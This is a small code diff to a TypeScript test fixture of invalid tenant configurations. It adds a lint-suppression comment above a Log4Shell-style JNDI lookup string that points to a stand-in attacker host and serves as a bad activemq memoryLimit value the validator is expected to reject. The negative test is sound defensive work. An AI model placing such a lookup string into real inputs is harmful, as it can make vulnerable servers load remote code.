@@ -154,6 +154,7 @@ export const BAD_TENANTS: BadTenant[] = [
   valueRule(
     'activemq',
     'memoryLimit',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Spring placeholder, on purpose
     '${jndi:ldap://evil.example/a}',
     'config.memoryLimit for activemq must be a size',
   ),
